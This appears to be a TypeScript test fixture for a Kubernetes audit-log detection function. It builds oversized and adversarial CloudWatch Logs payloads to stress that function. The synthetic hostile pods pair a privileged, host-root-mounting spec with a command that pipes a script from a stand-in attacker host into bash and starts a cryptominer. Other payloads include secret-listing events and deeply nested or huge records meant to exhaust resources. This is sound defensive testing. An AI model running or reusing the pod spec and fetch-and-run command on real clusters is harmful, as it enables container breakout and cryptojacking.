/** Payloads that somebody would make to hurt: each by a sentence, as the text of a subscription payload. */

import { gzipSync } from 'node:zlib';
import type { Json, JsonObject } from '../../shared/primitives/json.ts';
import { audit, createPod, human, nobody, pod, truncated } from '../../shared/sdk/examples.ts';
import { uid } from './objects.ts';
import { payloadText } from './payloads.ts';
import { createRandom } from './random.ts';

/** Bytes that a payload of CloudWatch Logs may inflate to before it is refused. */
const INFLATED = 59_000_000;

/** CloudWatch Logs takes log events up to 1 MB; EKS cuts records at a quarter of that, or later. */
const LARGEST_RECORD = 1_000_000;
const CUT_RECORD = 256_000;

/** Bytes of gzip that CloudWatch Logs sends in one payload at most. */
const COMPRESSED = 1_000_000;

/** Records of this text, as many as a payload may hold, or `most`. */
const repeated = (record: (index: number) => JsonObject | string, most = Number.POSITIVE_INFINITY): string => {
  const text = filled(record, INFLATED, most);
  const { length } = gzipSync(text);
  return length <= COMPRESSED ? text : filled(record, Math.floor((INFLATED * COMPRESSED) / length), most);
};

const filled = (record: (index: number) => JsonObject | string, size: number, most: number): string => {
  const texts: string[] = [];
  for (let length = 0; length < size && texts.length < most; ) {
    const made = record(texts.length);
    const text = typeof made === 'string' ? made : JSON.stringify(made);
    texts.push(text);
    length += JSON.stringify(text).length + 120;
  }
  return payloadText(texts);
};

const address = (index: number): string => `203.${(index >> 16) & 255}.${(index >> 8) & 255}.${index & 255}`;

const hostilePod = (index: number): JsonObject =>
  createPod(
    human(`mallory-${index}`, { ip: address(index), agent: `kube-hunter/${index}` }),
    pod(
      {
        hostNetwork: true,
        hostPID: true,
        hostIPC: true,
        nodeName: `ip-10-0-1-${index}`,
        serviceAccountName: 'clusterrole-aggregation-controller',
        containers: [
          {
            name: 'main',
            image: `evil.example/kube-hunter-${index}:1`,
            command: [
              'bash',
              '-c',
              `curl https://evil.example/${index}.sh | bash; xmrig -o stratum+tcp://pool:${index}`,
            ],
            securityContext: { privileged: true, capabilities: { add: ['SYS_ADMIN', 'ALL'] }, procMount: 'Unmasked' },
            stdin: true,
            tty: true,
          },
        ],
        volumes: [{ name: 'root', hostPath: { path: '/' } }],
      },
      { name: `coredns-${index}`, namespace: 'kube-system' },
    ),
    { auditId: `id-${index}` },
  );

const equalPod = JSON.stringify(hostilePod(1));

const secretRead = (index: number): JsonObject =>
  audit({
    verb: 'list',
    by: human(`mallory-${index}`, { ip: address(index), agent: `curl/${index}` }),
    resource: 'secrets',
    namespace: `ns-${index}`,
    auditId: `id-${index}`,
  });

const equalRead = JSON.stringify(
  audit({ verb: 'list', by: human('mallory', { agent: 'kube-hunter/1' }), resource: 'secrets', auditId: 'id' }),
);

const emptyObjects = (bytes: number): Json => Array<Json>(Math.floor(bytes / 3)).fill({});

const patchOf = (index: number, body: Json): JsonObject =>
  audit({
    verb: 'patch',
    by: human('mallory'),
    resource: 'mutatingwebhookconfigurations.admissionregistration.k8s.io',
    name: `c-${index}`,
    request: body,
    auditId: `id-${index}`,
  });

/** The API server makes an id for each request, and says when it came. */
const random = createRandom(1);
const stamped = (index: number) => ({
  auditId: uid(random),
  at: new Date(Date.UTC(2026, 2, 2, 10) + index * 3)
    .toISOString()
    .replace('Z', `${String(random.below(1_000)).padStart(3, '0')}Z`),
});

/** A request without credentials: the log shows its path and query, however long. */
const unauthenticatedExec = (command: string, index: number): JsonObject =>
  audit({
    verb: 'get',
    by: nobody(address(index)),
    code: 401,
    resource: 'pods/exec',
    namespace: 'default',
    name: 'web',
    query: `command=base64&command=${command}`,
    ...stamped(index),
  });

const oneRecord = (field: string): string => payloadText([`${equalRead.slice(0, -1)},"requestObject":${field}}`]);

/** Nobody who only sends requests can make these; a client of the function itself could. */
const FORGED = 'forged';

export interface WorstPayload {
  readonly what: string;
  /** Who can make it: anyone who reaches the endpoint, whoever may make such requests, or nobody through CloudWatch Logs. */
  readonly by: 'anyone' | 'authenticated' | typeof FORGED;
  readonly text: () => string;
}

export const WORST_PAYLOADS: readonly WorstPayload[] = [
  { what: 'equal hostile pods', by: 'authenticated', text: () => repeated(() => equalPod) },
  { what: 'equal reads that fire', by: 'authenticated', text: () => repeated(() => equalRead) },
  { what: 'different hostile pods', by: 'authenticated', text: () => repeated(hostilePod) },
  { what: '10,000 different hostile pods', by: 'authenticated', text: () => repeated(hostilePod, 10_000) },
  { what: 'reads of ever new callers', by: 'authenticated', text: () => repeated(secretRead) },
  {
    what: '100 patches of 250 kB of {}',
    by: 'authenticated',
    text: () => repeated((index) => patchOf(index, emptyObjects(250_000)), 100),
  },
  {
    what: 'patches of 1 MB of {}',
    by: 'authenticated',
    text: () => repeated((index) => patchOf(index, emptyObjects(LARGEST_RECORD))),
  },
  {
    what: 'records cut at 256 kB',
    by: 'authenticated',
    text: () => {
      const cut = truncated(hostilePod(1));
      return repeated((index) => `${cut.replace('"id-1"', `"id-${index}"`)}${'a'.repeat(CUT_RECORD)}[Truncated...]`);
    },
  },
  {
    what: 'denied requests of ever new addresses',
    by: 'anyone',
    text: () => repeated((index) => unauthenticatedExec('id', index)),
  },
  ...(['-D', '-i', 'c', '/', '%20', '-ip-0', "'"] as const).map(
    (part): WorstPayload => ({
      what: `denied exec, command of 200 kB of ${part}`,
      by: 'anyone',
      text: () => repeated((index) => unauthenticatedExec(`${part.repeat(200_000 / part.length)}-`, index)),
    }),
  ),
  { what: 'records that are empty', by: FORGED, text: () => payloadText(Array<string>(500_000).fill('')) },
  { what: 'records of {}', by: FORGED, text: () => payloadText(Array<string>(500_000).fill('{}')) },
  { what: 'records of plain text', by: FORGED, text: () => payloadText(Array<string>(480_000).fill('hello world')) },
  { what: 'one record, a string of 58 MB', by: FORGED, text: () => oneRecord(`"${'a'.repeat(58_000_000)}"`) },
  { what: 'one record, 19 million {}', by: FORGED, text: () => oneRecord(`[${'{},'.repeat(19_000_000)}{}]`) },
  {
    what: 'one record, nested 29 million deep',
    by: FORGED,
    text: () => oneRecord(`${'['.repeat(29_000_000)}${']'.repeat(29_000_000)}`),
  },
];
